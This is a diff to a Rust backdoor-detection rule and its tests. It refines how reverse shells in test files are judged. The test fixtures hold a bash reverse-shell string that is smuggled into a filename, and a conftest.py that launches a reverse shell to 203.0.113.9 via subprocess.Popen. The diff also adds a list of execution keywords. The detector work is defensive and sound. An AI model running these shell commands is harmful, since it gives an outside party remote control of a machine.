@@ -129,9 +129,29 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     let Some(w) = cx.source_write() else {
         return;
     };
+    // A test names attack strings as data (`'x && bash -i >& /dev/tcp/…'` in a sanitizer's
+    // cases): there, a reverse shell counts only next to something that runs it.
+    let test = is_test_or_dev(&w.path);
+    let runs = |s: &str| {
+        [
+            "subprocess",
+            "os.system",
+            "popen",
+            "exec(",
+            "spawn",
+            "system(",
+            "child_process",
+            "socket",
+            "pty.",
+        ]
+        .iter()
+        .any(|m| s.contains(m))
+    };
     if w.hunks.iter().any(|h| {
         (runs_request_input(&h.new) && !runs_request_input(&h.old))
-            || (reverse_shell(&h.new_lower, &h.new) && !reverse_shell("", &h.old))
+            || (reverse_shell(&h.new_lower, &h.new)
+                && !reverse_shell("", &h.old)
+                && (!test || runs(&h.new_lower)))
             || (runs_downloaded_code(&h.new) && !runs_downloaded_code(&h.old))
     }) {
         out.push(Finding::new(
@@ -431,6 +451,20 @@ mod tests {
     #[test]
     fn backdoors_and_their_look_alikes() {
         let cases: &[(&str, &str, Verdict, &str)] = &[
+            // A sanitizer's test cases name a reverse shell as data; a test that runs one is
+            // still a backdoor.
+            (
+                "tests/test_sanitize.py",
+                "@pytest.mark.parametrize('name', [\n    'x && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',\n])\ndef test_rejects(name):\n    assert not is_safe_filename(name)\n",
+                Pass,
+                "",
+            ),
+            (
+                "tests/conftest.py",
+                "import subprocess\nsubprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'])\n",
+                Block,
+                "code_backdoor",
+            ),
             // Request input run as a command, in five languages.
             (
                 "src/app.js",
